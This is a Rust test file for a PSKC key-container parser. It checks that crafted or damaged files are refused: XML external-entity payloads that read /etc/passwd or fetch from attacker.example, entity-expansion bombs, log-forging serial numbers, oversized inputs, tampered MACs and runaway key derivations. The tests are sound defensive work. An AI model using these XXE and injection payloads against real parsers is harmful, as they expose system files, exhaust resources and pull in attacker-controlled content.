//! PSKC files that somebody made to do harm, or that arrived damaged.

use tessera_otp::pskc::Unlock;
use tessera_otp::{EntryError, FileProblem};
use zeroize::Zeroizing;

use crate::figures::{FIGURE_3, FIGURE_6, FIGURE_7, key_6, password_7};
use crate::forge::{
    HOTP, RFC_SECRET, SIX, Sealer, container, entry_error, package, plain, plain_hotp, problem, read, seeds,
};

fn sealed_hotp(serial: &str, secret: &str) -> String {
    package(serial, HOTP, SIX, &format!("<Data>{secret}</Data>"))
}

fn errors(file: &str, unlock: Unlock) -> Vec<EntryError> {
    read(file, unlock).unwrap().into_iter().filter_map(|entry| entry.seed.err()).collect()
}

fn pre_shared(key: &[u8]) -> Unlock {
    Unlock::PreSharedKey(Zeroizing::new(key.to_vec()))
}

#[test]
fn a_document_type_is_refused_before_anything_of_it_counts() {
    let bombs = [
        "<!DOCTYPE k>",
        "<!DOCTYPE k SYSTEM \"file:///etc/passwd\">",
        "<!DOCTYPE k [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>",
        "<!DOCTYPE k [<!ENTITY % p SYSTEM \"http://attacker.example/x\"> %p;]>",
    ];
    for bomb in bombs {
        let file = FIGURE_3.replacen("?>", &format!("?>{bomb}"), 1);
        assert_eq!(problem(&file, Unlock::Nothing), FileProblem::Doctype, "{bomb}");
        assert_eq!(
            problem(file.replacen(bomb, "", 1) + bomb, Unlock::Nothing),
            FileProblem::Doctype,
            "{bomb} at the end"
        );
    }
}

#[test]
fn entities_other_than_the_five_are_refused() {
    for text in ["&a;", "&nbsp;", "&#x110000;", "&#xd800;", "&#0;", "&#;", "&;", "&#xffffffffffffffff;"] {
        assert!(
            matches!(
                problem(container(&plain_hotp(&format!("1{text}"), "")), Unlock::Nothing),
                FileProblem::Entity | FileProblem::Malformed(_)
            ),
            "{text} in a text"
        );
        let attribute = container(&package("1", &format!("{HOTP}{text}"), SIX, ""));
        assert!(
            matches!(problem(attribute, Unlock::Nothing), FileProblem::Entity | FileProblem::Malformed(_)),
            "{text} in an attribute"
        );
    }
    assert_eq!(seeds(&container(&plain_hotp("&lt;&gt;&amp;&quot;&apos;&#x41;", "")))[0].serial, "<>&\"'A");
}

#[test]
fn depth_is_bounded() {
    for depth in [20, 100_000] {
        let bomb = "<Extension>".repeat(depth);
        assert_eq!(
            problem(container(&bomb), Unlock::Nothing),
            FileProblem::TooLarge("the depth of elements")
        );
    }
}

#[test]
fn sizes_are_bounded() {
    let too_large = |inner: String, what| {
        assert_eq!(problem(container(&inner), Unlock::Nothing), FileProblem::TooLarge(what));
    };
    let million = "x".repeat(1_000_000);
    too_large(plain_hotp(&million, ""), "one piece of the file");
    too_large(format!("<KeyPackage Id=\"{million}\"/>"), "one piece of the file");
    too_large(format!("<!--{million}-->"), "one piece of the file");
    too_large(format!("<{million}/>"), "one piece of the file");
    too_large(format!("<![CDATA[{million}]]>"), "one piece of the file");
    too_large(format!("<?x {million}?>"), "one piece of the file");
    too_large(
        format!("<KeyPackage>{}</KeyPackage>", "<Key/>".repeat(10_000)),
        "the number of parts of one element",
    );
    too_large(
        format!("<KeyPackage>{}</KeyPackage>", format!("{}<Key/>", "x".repeat(9000)).repeat(10)),
        "one element",
    );
    let attributes: String =
        (0..1000).flat_map(|n| [" a".to_owned(), n.to_string(), "=\"\"".to_owned()]).collect();
    too_large(format!("<KeyPackage{attributes}/>"), "the number of attributes");
    let namespaces: String =
        (0..100).flat_map(|n| [" xmlns:a".to_owned(), n.to_string(), "=\"urn:a\"".to_owned()]).collect();
    let refused = problem(container(&format!("<KeyPackage{namespaces}/>")), Unlock::Nothing);
    assert!(matches!(refused, FileProblem::Malformed(_)), "{refused}");
}

#[test]
fn what_is_not_well_formed_stops_the_file() {
    let whole = container(&plain_hotp("1", ""));
    let broken = [
        whole.replace("</KeyPackage>", "</Key>"),
        whole.replace("</KeyContainer>", ""),
        whole.replace("</SerialNo>", ""),
        whole.clone() + &whole[whole.find("<KeyContainer").unwrap()..],
        whole.clone() + "text",
        container("text"),
        whole.replace("UTF-8", "UTF-16"),
        whole.replace("UTF-8", "ISO-8859-1"),
        whole.replace("<KeyPackage>", "<KeyPackage a='1' a='2'>"),
        whole.replace("<KeyPackage>", "<KeyPackage a>"),
        whole.replace("<KeyPackage>", "<KeyPackage <"),
        whole.replace("<KeyPackage>", "<x:KeyPackage>").replace("</KeyPackage>", "</x:KeyPackage>"),
        container("<!-- a -- b -->"),
    ];
    for file in broken {
        let problem = problem(&file, Unlock::Nothing);
        assert!(matches!(problem, FileProblem::Malformed(_)), "{problem} of {file}");
    }
    let mut bytes = whole.into_bytes();
    let at = bytes.windows(10).position(|window| window == b"<SerialNo>").unwrap() + 10;
    bytes[at] = 0xff;
    assert!(matches!(problem(&bytes, Unlock::Nothing), FileProblem::Malformed(_)));
}

#[test]
fn only_a_pskc_file_is_one() {
    for file in [
        "",
        " ",
        "<a/>",
        "text",
        "<KeyContainer Version=\"1.0\"/>",
        "<KeyContainer Version=\"1.0\" xmlns=\"urn:ietf:params:xml:ns:keyprov:pskc:1.0\"/>",
        "<KeyContainer Version=\"2.0\" xmlns=\"urn:ietf:params:xml:ns:keyprov:pskc\"/>",
        "<KeyContainer xmlns=\"urn:ietf:params:xml:ns:keyprov:pskc\"/>",
        "<Key Version=\"1.0\" xmlns=\"urn:ietf:params:xml:ns:keyprov:pskc\"/>",
        "<ds:KeyContainer Version=\"1.0\" xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"/>",
        "serial,secret\n1,2\n",
    ] {
        assert_eq!(problem(file, Unlock::Nothing), FileProblem::NotPskc, "{file}");
    }
    let later = "<KeyContainer Version=\"1.7\" xmlns=\"urn:ietf:params:xml:ns:keyprov:pskc\"/>";
    assert!(read(later, Unlock::Nothing).unwrap().is_empty(), "a later minor version");
    assert!(
        read(
            "\u{feff}<KeyContainer Version=\"1.0\" xmlns=\"urn:ietf:params:xml:ns:keyprov:pskc\"/>",
            Unlock::Nothing
        )
        .is_ok()
    );
}

#[test]
fn elements_of_other_namespaces_do_not_count() {
    let foreign =
        "<x:Secret xmlns:x=\"urn:attacker\"><PlainValue>AAECAwQFBgcICQoLDA0ODw==</PlainValue></x:Secret>";
    let secret = plain("Secret", RFC_SECRET);
    let seeds =
        seeds(&container(&package("1", HOTP, SIX, &format!("<Data>{foreign}{secret}{foreign}</Data>"))));
    assert_eq!(seeds.len(), 1);
    let packages = format!("<x:KeyPackage xmlns:x=\"urn:attacker\"/>{}", plain_hotp("1", ""));
    assert_eq!(read(container(&packages), Unlock::Nothing).unwrap().len(), 1);
}

#[test]
fn numbers_that_are_too_large_are_refused() {
    for number in [
        "-1",
        "9223372036854775808",
        "18446744073709551616",
        "1e3",
        "0x10",
        "",
        " ",
        "1.0",
        &"9".repeat(1000),
    ] {
        let error = entry_error(&plain_hotp("1", &plain("Counter", number)));
        assert_eq!(error, EntryError::Wrong("Counter"), "{number}");
    }
    let largest = seeds(&container(&plain_hotp("1", &plain("Counter", "9223372036854775807"))));
    assert_eq!(largest.len(), 1);
    let sealer = Sealer::aes128_sha1();
    for bytes in [[0xff; 8].as_slice(), &[0; 9], &[]] {
        let data = format!(
            "<Data>{}{}</Data>",
            sealer.value("Secret", b"12345678901234567890"),
            sealer.value("Counter", bytes)
        );
        let file = container(&(sealer.head() + &package("1", HOTP, SIX, &data)));
        assert_eq!(errors(&file, sealer.unlock()), [EntryError::Wrong("Counter")], "{bytes:?}");
    }
    for drift in ["2108161", "-2108161", "-9223372036854775808"] {
        let data = format!(
            "<Data>{}{}{}</Data>",
            plain("Secret", RFC_SECRET),
            plain("TimeInterval", "30"),
            plain("TimeDrift", drift)
        );
        let totp = package("1", crate::forge::TOTP, SIX, &data);
        assert_eq!(entry_error(&totp), EntryError::Wrong("TimeDrift"), "{drift}");
    }
}

#[test]
fn texts_that_would_forge_a_log_or_fill_a_page_are_refused() {
    for serial in ["1\n2", "1&#10;2", "1&#x1b;[2J", "1\u{85}2", &"1".repeat(257)] {
        let entries = read(container(&plain_hotp(serial, "")), Unlock::Nothing).unwrap();
        assert_eq!(entries[0].seed, Err(EntryError::Wrong("SerialNo")), "{serial:?}");
        assert_eq!(entries[0].serial, None);
    }
}

#[test]
fn every_changed_bit_of_a_value_breaks_its_mac() {
    let sealer = Sealer::aes256_sha256();
    let whole = sealer.seal(b"12345678901234567890");
    let tag = sealer.tag(&whole);
    let mut packages = sealed_hotp("whole", &sealer.value_of("Secret", &whole, &tag));
    for (place, bit) in (0..whole.len()).flat_map(|place| (0..8).map(move |bit| (place, bit))) {
        let mut changed = whole.clone();
        changed[place] ^= 1 << bit;
        packages += &sealed_hotp(&format!("value {place} {bit}"), &sealer.value_of("Secret", &changed, &tag));
        if let Some(byte) = tag.get(place) {
            let mut changed = tag.clone();
            changed[place] = byte ^ 1 << bit;
            packages +=
                &sealed_hotp(&format!("tag {place} {bit}"), &sealer.value_of("Secret", &whole, &changed));
        }
    }
    for tag in [&[] as &[u8], &tag[..16], &[tag.as_slice(), &[0]].concat()] {
        packages += &sealed_hotp(&format!("tag of {}", tag.len()), &sealer.value_of("Secret", &whole, tag));
    }
    let entries = read(container(&(sealer.head() + &packages)), sealer.unlock()).unwrap();
    assert!(entries.len() > 8 * whole.len());
    for entry in entries {
        let expected =
            if entry.serial.as_deref() == Some("whole") { None } else { Some(EntryError::BadMac("Secret")) };
        assert_eq!(entry.seed.err(), expected, "{:?}", entry.serial);
    }
}

#[test]
fn a_wrong_key_or_password_opens_nothing() {
    let passwords = (0..200).map(|n| (FIGURE_7, Unlock::Password(Zeroizing::new(format!("wrong {n}")))));
    let keys = (0..200).map(|n| (FIGURE_6, pre_shared(&[n; 16])));
    let (mut whole_files, mut entries) = (0, 0);
    for (file, unlock) in passwords.chain(keys) {
        match read(file, unlock) {
            Err(error) => {
                assert_eq!(error.problem, FileProblem::WrongKey);
                whole_files += 1;
            }
            // The MAC key has no MAC of its own. One wrong key in 25 makes a MAC key out of it, and the MACs of the values find out.
            Ok(read) => {
                assert_eq!(read[0].seed, Err(EntryError::BadMac("Secret")));
                entries += 1;
            }
        }
    }
    assert!(whole_files > 300 && entries > 0, "{whole_files} and {entries}");
    assert_eq!(problem(FIGURE_6, pre_shared(&[0x12; 32])), FileProblem::WrongKey, "a key of another length");
    assert_eq!(problem(FIGURE_6, pre_shared(&[])), FileProblem::WrongKey);
}

#[test]
fn a_file_says_which_key_it_needs() {
    let needs_key = FileProblem::Needs("its pre-shared key");
    let needs_password = FileProblem::Needs("its password");
    assert_eq!(problem(FIGURE_6, Unlock::Nothing), needs_key);
    assert_eq!(problem(FIGURE_6, password_7()), needs_key);
    assert_eq!(problem(FIGURE_7, Unlock::Nothing), needs_password);
    assert_eq!(problem(FIGURE_7, key_6()), needs_password);
}

#[test]
fn a_secret_in_the_clear_cannot_be_slipped_into_an_encrypted_file() {
    let sealer = Sealer::aes128_sha1();
    let file = container(
        &(sealer.head()
            + &plain_hotp("1", "")
            + &sealed_hotp("2", &sealer.value("Secret", b"12345678901234567890"))),
    );
    assert_eq!(errors(&file, sealer.unlock()), [EntryError::InTheClear]);
}

#[test]
fn an_encrypted_value_needs_a_mac_and_a_cipher_that_is_known() {
    let sealer = Sealer::aes128_sha1();
    let value = sealer.value("Secret", b"12345678901234567890");
    let (before, after) = value.split_once("<ValueMAC>").unwrap();
    let without = format!("{before}{}", after.split_once("</ValueMAC>").unwrap().1);
    let with = |secret: &str| container(&(sealer.head() + &sealed_hotp("1", secret)));
    assert_eq!(errors(&with(&without), sealer.unlock()), [EntryError::NoMac("Secret")]);
    for other in ["tripledes-cbc", "kw-aes128", "rsa_1_5", "aes128-gcm"] {
        let other = value.replace("aes128-cbc", other);
        assert_eq!(errors(&with(&other), sealer.unlock()), [EntryError::Cipher("Secret")]);
    }
    let head_less = container(&sealed_hotp("1", &value));
    assert_eq!(errors(&head_less, sealer.unlock()), [EntryError::Cipher("Secret")]);
    // The MAC is right, but the bytes are no blocks.
    let stump = sealer.seal(b"12345678901234567890")[..40].to_vec();
    let stump = sealer.value_of("Secret", &stump, &sealer.tag(&stump));
    assert_eq!(errors(&with(&stump), sealer.unlock()), [EntryError::Undecryptable("Secret")]);
    let truncated = value.replacen("</xenc:CipherValue>", "A</xenc:CipherValue>", 1);
    assert_eq!(errors(&with(&truncated), sealer.unlock()), [EntryError::Wrong("Secret")]);
}

#[test]
fn the_head_of_a_file_must_be_whole_and_in_order() {
    let sealer = Sealer::aes128_sha1();
    let key = "<EncryptionKey><ds:KeyName>Ours</ds:KeyName></EncryptionKey>";
    let mac = sealer.mac_method();
    let device = sealed_hotp("1", &sealer.value("Secret", b"12345678901234567890"));
    let refused = |inner: String| match problem(container(&inner), sealer.unlock()) {
        FileProblem::Encryption(why) | FileProblem::Unsupported(why) => why,
        other => panic!("{other}"),
    };
    assert_eq!(refused(format!("{key}{device}")), "EncryptionKey without MACMethod");
    assert_eq!(refused(format!("{mac}{key}{device}")), "MACMethod is out of place");
    assert_eq!(refused(format!("{key}{key}{mac}{device}")), "EncryptionKey is twice there or too late");
    assert_eq!(refused(format!("{key}{mac}{mac}{device}")), "MACMethod is out of place");
    assert_eq!(
        refused(format!("{}{key}{mac}", plain_hotp("0", ""))),
        "EncryptionKey is twice there or too late"
    );
    assert_eq!(refused(format!("<EncryptionKey/>{mac}{device}")), "EncryptionKey is empty");
    let outside = "<MACMethod Algorithm=\"http://www.w3.org/2000/09/xmldsig#hmac-sha1\"/>";
    assert_eq!(refused(format!("{key}{outside}{device}")), "a MAC key outside the file");
    let md5 = mac.replace("hmac-sha1", "hmac-md5");
    assert_eq!(refused(format!("{key}{md5}{device}")), "the algorithm of the MAC");
}

#[test]
fn a_derivation_that_would_take_for_ever_is_refused() {
    for (from, to, expected) in [
        (
            "<IterationCount>1000<",
            "<IterationCount>4294967295<",
            FileProblem::TooLarge("the number of iterations"),
        ),
        (
            "<IterationCount>1000<",
            "<IterationCount>0<",
            FileProblem::Encryption("the derivation of the key is incomplete"),
        ),
        (
            "<IterationCount>1000<",
            "<IterationCount>99999999999<",
            FileProblem::Encryption("the derivation of the key is incomplete"),
        ),
        (
            "<KeyLength>16<",
            "<KeyLength>4294967295<",
            FileProblem::Encryption("the derivation of the key is incomplete"),
        ),
        (
            "<KeyLength>16<",
            "<KeyLength>0<",
            FileProblem::Encryption("the derivation of the key is incomplete"),
        ),
        ("<KeyLength>16<", "<KeyLength>17<", FileProblem::WrongKey),
        ("Ej7/PEpyEpw=", "Ej7/PEpyEp", FileProblem::Encryption("the salt has a wrong value")),
        ("Ej7/PEpyEpw=", "", FileProblem::Encryption("the salt has a wrong value")),
        ("#pbkdf2", "#argon2", FileProblem::Unsupported("a key derivation other than PBKDF2")),
        ("<PRF/>", "<PRF Algorithm=\"urn:md5\"/>", FileProblem::Unsupported("the hash of PBKDF2")),
    ] {
        assert_eq!(problem(FIGURE_7.replace(from, to), password_7()), expected, "{to}");
    }
}

#[test]
fn a_source_that_fails_is_an_error_and_the_end() {
    struct Broken;
    impl std::io::Read for Broken {
        fn read(&mut self, _: &mut [u8]) -> std::io::Result<usize> {
            Err(std::io::ErrorKind::ConnectionReset.into())
        }
    }
    let head = container(&plain_hotp("1", "")).replace("</KeyContainer>", "");
    let source = std::io::BufReader::new(std::io::Read::chain(head.as_bytes(), Broken));
    let mut reader = tessera_otp::pskc::Reader::new(source, Unlock::Nothing).unwrap();
    assert!(reader.next().unwrap().unwrap().seed.is_ok());
    let error = reader.next().unwrap().unwrap_err();
    assert_eq!(error.problem, FileProblem::Source(std::io::ErrorKind::ConnectionReset));
    assert!(reader.next().is_none());
}
